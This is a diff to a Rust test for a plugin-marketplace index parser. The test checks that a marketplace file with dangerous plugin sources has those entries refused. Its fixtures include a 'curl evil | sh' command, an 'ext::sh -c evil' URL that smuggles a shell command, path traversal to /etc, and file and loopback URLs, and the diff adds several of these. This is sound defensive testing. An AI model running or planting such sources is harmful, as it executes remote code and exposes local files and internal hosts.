@@ -1,7 +1,6 @@
 //! What sites and repositories list.
 
 use metier_hub::{Artifact, IndexError, Marketplace, PluginPlace, SiteIndex};
-use metier_package::{PackageFile, PackagePath, PackageTree};
 use proptest::prelude::*;
 use url::Url;
 
@@ -84,14 +83,6 @@ fn what_is_no_index_is_refused() {
     assert_eq!(index(&" ".repeat((4 << 20) + 1)), Err(IndexError::TooLarge));
 }
 
-fn tree(paths: &[&str]) -> PackageTree {
-    let files = paths.iter().map(|path| PackageFile {
-        path: PackagePath::new(path.as_bytes()).unwrap(),
-        bytes: Vec::new(),
-    });
-    PackageTree::new(files.collect()).unwrap()
-}
-
 #[test]
 fn a_marketplace_names_skills_of_its_plugins() {
     let text = r#"{
@@ -108,28 +99,29 @@ fn a_marketplace_names_skills_of_its_plugins() {
             {"name": "run", "source": {"source": "command", "command": "curl evil | sh"}},
             {"name": "out", "source": "./../../etc"},
             {"name": "ext", "source": {"source": "url", "url": "ext::sh -c evil"}},
+            {"name": "near", "source": {"source": "url", "url": "file:///etc"}},
+            {"name": "loop", "source": {"source": "url", "url": "http://127.0.0.1/x.git"}},
+            {"name": "disk", "source": {"source": "archive", "url": "/etc/x.zip"}},
             {"name": "two", "source": "./", "skills": ["../x"]}
         ]
     }"#;
     let marketplace = Marketplace::parse(text.as_bytes()).unwrap();
-    let tree = tree(&[
-        "skills/pdf/SKILL.md",
-        "skills/docx/SKILL.md",
-        "skills/hidden/SKILL.md",
-        "plugins/whole/skills/a/SKILL.md",
-        "plugins/whole/skills/b/SKILL.md",
-        "single/SKILL.md",
-    ]);
+    let folders = [
+        "plugins/whole/skills/a",
+        "plugins/whole/skills/b",
+        "single",
+        "skills/docx",
+        "skills/hidden",
+        "skills/pdf",
+    ];
     let shown: Vec<String> = marketplace
         .plugins
         .iter()
         .map(|plugin| match &plugin.place {
             PluginPlace::Here(_) => {
-                format!(
-                    "{}: {}",
-                    plugin.name,
-                    plugin.skill_folders(&tree).join(", ")
-                )
+                let mut included = folders.to_vec();
+                included.retain(|folder| plugin.includes(folder));
+                format!("{}: {}", plugin.name, included.join(", "))
             }
             PluginPlace::Elsewhere(source) => format!("{} from {source}", plugin.name),
         })
@@ -145,7 +137,7 @@ fn a_marketplace_names_skills_of_its_plugins() {
             "packed from https://example.org/x.zip",
         ]
     );
-    assert_eq!(marketplace.left_out.len(), 5, "{:#?}", marketplace.left_out);
+    assert_eq!(marketplace.left_out.len(), 8, "{:#?}", marketplace.left_out);
 }
 
 proptest! {
